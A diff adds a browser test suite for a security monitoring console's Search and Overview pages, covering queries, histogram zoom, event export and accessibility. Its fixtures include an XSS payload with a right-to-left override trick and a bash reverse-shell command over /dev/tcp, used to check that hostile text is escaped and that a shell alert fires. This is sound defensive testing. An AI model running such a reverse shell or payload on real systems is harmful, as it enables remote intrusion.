@@ -1,0 +1,159 @@
+/** The Search page and the Overview in a real browser, over events that a real agent's connection brought. */
+import assert from 'node:assert/strict'
+import { readFileSync } from 'node:fs'
+import { after, before, test } from 'node:test'
+import type { BrowserContext, Page } from 'playwright-core'
+import { enrolAgent, TestAgent } from '../../apps/server/src/testing/test-agent.ts'
+import { startTestServer, type TestServer } from '../../apps/server/src/testing/test-server.ts'
+import { axeFindings } from './parts/axe.ts'
+import { firstSignIn, openBrowser } from './parts/browser.ts'
+
+const hourMs = 3_600_000
+/** An agent that nobody hears of for a while may raise one more. */
+const someAlerts = /^[12] new alerts?$/
+const hostile = '<img src=x onerror=alert(1)> \u202egpj.exe'
+let own: TestServer
+let agent: TestAgent
+let browser: BrowserContext
+let page: Page
+const complaints: string[] = []
+
+before(async () => {
+  own = await startTestServer()
+  agent = new TestAgent(await enrolAgent(own.server.createEnrolmentToken().token))
+  await agent.connect()
+  const { assetId } = agent.enrolment
+  const connected = (sequence: number, hoursAgo: number) => ({
+    ...agent.event(sequence, 'network.connected', {
+      transport: 'tcp',
+      process: { pid: 90, entityId: 'boot-1-90-1', name: 'curl', executable: '/usr/bin/curl' },
+      source: { address: '192.0.2.10', port: 40_000 },
+      destination: { address: `198.51.100.${sequence}`, port: 443 },
+    }),
+    at: Date.now() - hoursAgo * hourMs,
+  })
+  await agent.deliver(1, [
+    ...Array.from({ length: 120 }, (_, index) => connected(index + 1, 1 + (index % 12))),
+    agent.started(200, 'ls -l', 200),
+    agent.started(201, `echo ${hostile}`, 201),
+    agent.started(202, 'bash -i >& /dev/tcp/198.51.100.1/1', 202),
+  ])
+  assert.ok(assetId)
+  browser = await openBrowser()
+  page = browser.pages()[0] ?? (await browser.newPage())
+  page.setDefaultTimeout(30_000)
+  page.on('console', (message) => {
+    if (message.type() === 'error' && !/40[01]/.test(message.text())) complaints.push(message.text())
+  })
+  page.on('pageerror', (error) => complaints.push(error.message))
+  await firstSignIn(page, own.server.consoleUrl, own.server.firstUser?.password ?? '')
+})
+after(async () => {
+  await browser?.close()
+  agent?.cut()
+  await own?.end()
+})
+
+const query = () => page.getByRole('textbox', { name: 'Search events' })
+const rows = () => page.locator('tbody tr')
+async function ask(text: string): Promise<void> {
+  await query().fill(text)
+  await page.getByRole('search').getByRole('button', { name: 'Search', exact: true }).click()
+}
+const total = (number: number) => page.getByText(`${number} event${number === 1 ? '' : 's'}`, { exact: true })
+
+test('a question is typed, and mended at its place', async () => {
+  await page.goto(`${own.server.consoleUrl}/search`)
+  await rows().first().waitFor()
+  assert.equal(await rows().count(), 100, 'one page of them')
+  await page.getByRole('button', { name: 'Show more' }).click()
+  await rows().nth(122).waitFor()
+  assert.deepEqual(await axeFindings(page), [])
+
+  await query().fill('type:process.started proces.name:bash')
+  await page.getByRole('alert').getByText('There is no such field.').waitFor()
+  assert.equal(await page.getByRole('alert').locator('mark').textContent(), 'proces.name')
+  assert.ok(await page.getByRole('search').getByRole('button', { name: 'Search', exact: true }).isDisabled())
+  assert.deepEqual(await axeFindings(page), [])
+
+  await ask('type:process.started')
+  await total(3).waitFor()
+})
+
+test('a bar of the histogram zooms in, and the range is taken back', async () => {
+  await page.goto(`${own.server.consoleUrl}/search?q=type%3Anetwork.connected`)
+  await total(120).waitFor()
+  await page
+    .getByRole('button', { name: /^From .* Zoom in$/, disabled: false })
+    .first()
+    .click()
+  await page.getByRole('button', { name: 'Take the range of time back' }).waitFor()
+  await total(10).waitFor()
+  assert.match(page.url(), /from=.*to=/)
+  await page.getByRole('button', { name: 'Take the range of time back' }).click()
+  await total(120).waitFor()
+})
+
+test('an event is opened, its values narrow the question, and it leads to its alerts; hostile text is shown as text', async () => {
+  await page.goto(`${own.server.consoleUrl}/search?q=%22onerror%22`)
+  await total(1).waitFor()
+  await page.getByRole('button', { name: /^Event of/ }).click()
+  await page.getByText('"commandLine"').waitFor()
+  assert.equal(await page.locator('img[src=x]').count(), 0)
+  assert.doesNotMatch((await page.locator('main').innerText()) ?? '', /\u202e/)
+  assert.deepEqual(await axeFindings(page), [])
+  await page.getByRole('link', { name: 'Alerts with this event' }).click()
+  await page.waitForURL('**/alerts?**event=**')
+  await page.getByText('No alert').first().waitFor()
+
+  await page.goto(`${own.server.consoleUrl}/search?q=%22dev%2Ftcp%22`)
+  await page.getByRole('button', { name: /^Event of/ }).click()
+  await page.getByRole('link', { name: 'Alerts with this event' }).click()
+  await page.getByText('Shell over a socket').first().waitFor()
+})
+
+test('an address brings everybody to the same place, and what was found is taken away', async () => {
+  await page.goto(`${own.server.consoleUrl}/search?q=destination.address%3A198.51.100.7&last=7d`)
+  await total(1).waitFor()
+  assert.equal(await query().inputValue(), 'destination.address:198.51.100.7')
+  await page.getByRole('button', { name: 'Download what is found' }).click()
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    page.getByRole('menuitem', { name: 'JSON, one event a line' }).click(),
+  ])
+  assert.match(download.suggestedFilename(), /^events-.*\.ndjson$/)
+  const lines = readFileSync(await download.path(), 'utf8')
+    .trim()
+    .split('\n')
+  assert.deepEqual(
+    lines.map((line) => JSON.parse(line).destination.address),
+    ['198.51.100.7'],
+  )
+})
+
+for (const width of [1440, 1024, 390])
+  test(`${width} pixels: nothing for axe on Search and Overview, nothing wider than the screen`, async () => {
+    await page.setViewportSize({ width, height: 900 })
+    await page.goto(`${own.server.consoleUrl}/search?q=type%3Anetwork.connected`)
+    await total(120).waitFor()
+    assert.deepEqual(await axeFindings(page), [])
+    await page.goto(`${own.server.consoleUrl}/overview`)
+    await page.locator('canvas').waitFor()
+    await page.getByText(someAlerts).first().waitFor()
+    assert.deepEqual(await axeFindings(page), [])
+    const wider = await page.evaluate('document.documentElement.scrollWidth - window.innerWidth')
+    assert.ok(Number(wider) <= 0, `${wider} pixels too wide`)
+  })
+
+test('the Overview: alerts of a day as a picture and as a table', async () => {
+  await page.setViewportSize({ width: 1440, height: 900 })
+  await page.goto(`${own.server.consoleUrl}/overview`)
+  const panel = page.getByRole('region', { name: 'New alerts over time' })
+  await panel.getByText('24 hours', { exact: true }).click()
+  await panel.getByText(someAlerts).waitFor()
+  await page.getByRole('region', { name: 'Types, last 24 hours' }).getByText('Suspicious Process').waitFor()
+  await panel.getByText('As a table').click()
+  await panel.locator('tbody tr:nth-child(24)').waitFor()
+  assert.equal(await panel.locator('tbody tr').count(), 24)
+  assert.deepEqual(complaints, [], 'nothing of it is against the policy')
+})
